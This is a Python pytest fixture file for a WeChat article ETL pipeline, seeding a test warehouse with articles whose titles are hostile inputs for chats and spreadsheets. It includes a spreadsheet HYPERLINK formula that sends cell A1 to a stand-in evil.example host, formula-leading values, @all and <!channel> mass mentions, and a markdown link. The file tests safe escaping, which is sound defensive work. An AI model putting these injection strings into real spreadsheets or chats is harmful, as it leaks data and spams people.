"""Fixtures: a warehouse whose articles have titles that could harm a chat or a spreadsheet."""

import pytest
from sqlalchemy import Engine
from support.warehouse_loads import ACCOUNT, SCHEDULED, article, body, load_chunk, staged

from weixin_etl.model import ConfiguredAccount
from weixin_etl.run import Work
from weixin_etl.run.plan import plan

TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1, "点我")',
    "+1",
    "-2+3",
    "@x",
    '@all <at user_id="all">所有人</at> <!channel>',
    "[点我](https://evil.example/x) *粗* _斜_ `码`",
    "👩‍👩‍👧‍👦 家 🎉",
    "第一行\n第二行\r\n\t第三行",
    "很长的标题，" * 33 + "到此",
    'He said "no"; \\ , 100 %',
    "a" + "\u0301" * 190,
    "2026-11-20",
    "0012",
    "TRUE",
]
"""Titles of articles, the most read first."""


@pytest.fixture
def hostile(warehouse: Engine, now: None) -> Engine:
    """Return a warehouse with an article for each of `TITLES`, which was read on four days."""
    articles = [
        article(
            f"{rank}_1",
            {str(day): {"int_page_read_user": (day - 19) * (900 - rank)} for day in range(20, 24)},
            title=title,
        )
        for rank, title in enumerate(TITLES)
    ]
    account = ConfiguredAccount(ACCOUNT.conn_id, ACCOUNT.appid, ACCOUNT.name)
    plan(Work(SCHEDULED, warehouse), [account])
    load_chunk(warehouse, staged(body(*articles), "24 10:30"))
    return warehouse
